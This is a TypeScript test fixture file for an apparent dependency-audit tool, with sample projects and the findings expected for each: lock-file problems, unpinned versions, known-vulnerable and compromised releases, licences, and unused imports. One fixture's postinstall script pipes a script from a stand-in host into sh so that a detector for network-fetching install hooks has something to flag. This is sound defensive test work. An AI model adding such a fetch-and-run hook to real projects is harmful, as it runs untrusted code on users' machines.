import { besideExamples } from './besideExamples';
import { heldVersions } from './heldVersions';
import { npmHost, npmLock, type Project } from './project';

export const projects: readonly Project[] = [
  {
    what: 'does not tell the tools of a small part as what the product asks for',
    files: {
      'build.sc': 'def ivyDeps = Agg(ivy"org.typelevel::cats-effect:3.5.0")\n',
      'src/main/scala/App.scala': `object App {\n${'  def run(): Unit = ()\n'.repeat(40)}}\n`,
      'web/package.json': '{"name": "web", "private": true, "dependencies": {\n"a": "1.0.0"}}',
      'web/src/a.js': 'export const a = 1;\n',
    },
    says: [],
    silent: ['overview'],
  },
  {
    what: 'counts what is asked for beside a smaller part of another kind',
    files: {
      'package.json': '{"name": "app", "private": true, "dependencies": {\n"a": "1.0.0"}}',
      'src/a.js': 'export const a = 1;\n'.repeat(40),
      'jobs/build.sc': 'def ivyDeps = Agg(ivy"org.typelevel::cats-effect:3.5.0")\n',
      'jobs/src/main/scala/App.scala': `object App {\n${'  def run(): Unit = ()\n'.repeat(10)}}\n`,
    },
    says: ['overview: 1 direct dependency found in package.json'],
  },
  {
    what: 'counts, and sees two lock files side by side',
    files: {
      'package.json': '{"name": "app", "dependencies": {\n"a": "1.0.0"}}',
      'package-lock.json': npmLock({ a: { version: '1.0.0' }, b: { version: '1.0.0' } }),
      'yarn.lock': 'a@1.0.0:\n  version "1.0.0"\n',
    },
    says: [
      'overview: 1 direct dependency found in package.json, locked by package-lock.json',
      'rival-lock-files: package-lock.json and yarn.lock lie side by side',
    ],
    silent: ['missing-lock-file', 'unpinned'],
  },
  {
    what: 'misses the lock file of an application, not that of a library',
    files: {
      'package.json': '{"name": "app", "private": true, "dependencies": {\n"a": "^1.0.0",\n"b": "*"}}',
      'lib/package.json': '{"name": "lib", "main": "x.js", "dependencies": {"a": "^1.0.0"}}',
    },
    says: [
      'missing-lock-file: No lock file found for package.json',
      'unpinned: 1 runtime dependency in package.json names no version',
    ],
  },
  {
    what: 'lets a lock file hold what a manifest leaves open',
    files: {
      'package.json': '{"name": "app", "private": true, "dependencies": {"b": "*"}}',
      'package-lock.json': npmLock({ b: { version: '1.0.0' } }),
    },
    says: [],
    silent: ['unpinned', 'missing-lock-file'],
  },
  {
    what: 'sees a branch as a source, and not a tag',
    files: {
      'requirements.txt': 'git+https://github.com/o/one.git#egg=one\ngit+https://github.com/o/two.git@v1.2#egg=two\n',
    },
    says: ['unpinned-source: one comes from a git repository without a fixed commit'],
  },
  {
    what: 'sees two major versions in one repository',
    files: {
      'package.json': '{"name": "root", "private": true, "workspaces": ["a", "b"], "dependencies": {"x": "1.0.0"}}',
      'package-lock.json': npmLock({
        x: { version: '1.0.0' },
        same: { version: '1.4.0' },
        react: { version: '18.2.0' },
      }).replace(/\}\s+\}$/, ',"a/node_modules/react": {\n"version": "17.0.2"}}}'),
      'a/package.json': '{"name": "a", "dependencies": {"react": "^17.0.0", "same": "1.0.0"}}',
      'b/package.json': '{"name": "b", "dependencies": {"react": "^18.2.0", "same": "1.4.0"}}',
    },
    says: [
      'version-conflict: Manifests that share a lock file need different major versions at run time: react (17, 18)',
    ],
  },
  {
    what: 'tells what several lists leave open at once',
    files: {
      'a/requirements.txt': 'flask\nrich\n',
      'b/requirements.txt': 'flask\n',
      'a/app.py': 'import flask\n',
      'b/app.py': 'import flask\n',
    },
    says: [
      'unpinned: 3 runtime dependencies in 2 manifests name no version',
      'overview: 2 direct dependencies found in a/requirements.txt, 1 in b/requirements.txt',
    ],
  },
  {
    what: 'knows notorious versions by the lock file, or where no allowed version is safe',
    files: {
      'package.json':
        '{"name": "app", "dependencies": {\n"lodash": "^4.17.0",\n"jsonwebtoken": "~8.5.0",\n"axios": "^1.0.0"}}',
      'package-lock.json': npmLock({
        lodash: { version: '4.17.20' },
        minimist: { version: '1.2.0' },
        axios: { version: '1.6.0' },
      }),
    },
    says: [
      'notorious-version: lodash 4.17.20 has CVE-2021-23337: command injection through `template`',
      'notorious-version: jsonwebtoken ~8.5.0 has CVE-2022-23540: a missing algorithm list lets unsigned tokens pass',
      'notorious-transitive: Locked package with widely known weaknesses: minimist 1.2.0',
    ],
  },
  {
    what: 'leaves a range alone that allows the fixed version',
    files: {
      'package.json':
        '{"name": "app", "scripts": {"preinstall": "echo see https://x.example"}, "dependencies": {"lodash": "^4.17.0", "minimist": ">=1.0.0"}}',
    },
    says: [],
    silent: ['notorious-version', 'fetching-hook'],
  },
  {
    what: 'knows releases that carried an attack',
    files: {
      'package.json': '{"name": "app", "dependencies": {"chalk": "5.6.1"}}',
      'package-lock.json': npmLock({ chalk: { version: '5.6.1' } }),
    },
    says: ["malicious-version: chalk 5.6.1 is a release with an attacker's code in it"],
  },
  {
    what: 'knows what is no longer maintained',
    files: {
      'package.json': '{"name": "app", "dependencies": {"request": "2.88.2"}, "devDependencies": {"tslint": "6.1.3"}}',
    },
    says: ['unmaintained: Direct dependencies that are no longer maintained: request and tslint'],
  },
  {
    what: 'names copyleft among what is shipped, not a choice of licences',
    files: {
      'package.json': '{"name": "app", "license": "MIT", "dependencies": {"a": "1.0.0", "b": "1.0.0"}}',
      'package-lock.json': npmLock({
        a: { version: '1.0.0', license: 'GPL-3.0-only' },
        b: { version: '1.0.0', license: '(MIT OR GPL-3.0)' },
        c: { version: '1.0.0', license: 'AGPL-3.0', dev: true },
        d: { version: '1.0.0', license: 'LGPL-3.0' },
      }),
    },
    says: ['copyleft: Runtime dependency with a strong copyleft licence: a'],
  },
  {
    what: 'looks at where packages are fetched from and what they run',
    files: {
      'package.json':
        '{"name": "app", "scripts": {"postinstall": "curl https://x.example/i.sh | sh"}, "dependencies": {"a": "1"}}',
      'package-lock.json': npmLock({
        a: { version: '1.0.0', resolved: `https://${npmHost}/a/-/a-1.0.0.tgz` },
        b: { version: '1.0.0', resolved: 'https://packages.example/b.tgz' },
        c: { version: '1.0.0', resolved: `http://${npmHost}/c.tgz` },
        d: { version: '1.0.0', hasInstallScript: true },
        esbuild: { version: '0.20.0', hasInstallScript: true },
      }),
    },
    says: [
      'insecure-source: 1 locked package is fetched without encryption: c',
      'foreign-host: 1 locked package comes from another host than the registry: packages.example',
      'install-scripts: Beside well-known ones, 1 package runs a script at install: d',
      'fetching-hook: package.json fetches from the network in postinstall',
    ],
  },
  {
    what: 'sees imports that no manifest declares, and libraries that no file imports',
    files: {
      'package.json':
        '{"name": "app", "private": true, "dependencies": {"express": "4.18.0", "axios": "1.0.0", "lodash": "4.17.21", "dayjs": "1.0.0"}, "peerDependencies": {"sqlite3": "*"}, "peerDependenciesMeta": {"sqlite3": {"optional": true}}}',
      'package-lock.json': npmLock({
        express: { version: '4.18.0' },
        sqlite3: { version: '5.0.0' },
        axios: { version: '1.0.0' },
        lodash: { version: '4.17.21' },
        dayjs: { version: '1.0.0' },
        qs: { version: '6.11.0' },
        hashes: { version: '1.0.0' },
      }),
      'scripts/sum.ts': "import hashes from 'hashes';\nexport default hashes;\n",
      'src/a.ts':
        "import express from 'express';\nimport qs from 'qs';\nimport 'sqlite3';\nimport fs from 'node:fs';\nimport 'lodash';\nimport 'dayjs';\nimport type { X } from 'typed';\nexport default [express, qs, fs];\n",
    },
    says: [
      'undeclared: Imported package that no manifest asks for: qs',
      'unused: package.json asks for axios; no import of it was found',
    ],
  },
  {
    what: 'does not call unused what a file that is not parsed may import',
    files: {
      'package.json':
        '{"name": "app", "private": true, "dependencies": {"axios": "1.0.0", "lodash": "4.17.21", "dayjs": "1.0.0"}}',
      'src/a.ts': "import 'lodash';\nimport 'dayjs';\n",
      'src/b.vue': "<script>\nimport axios from 'axios'\n</script>\n",
    },
    says: [],
    silent: ['unused'],
  },
  ...besideExamples,
  ...heldVersions,
];
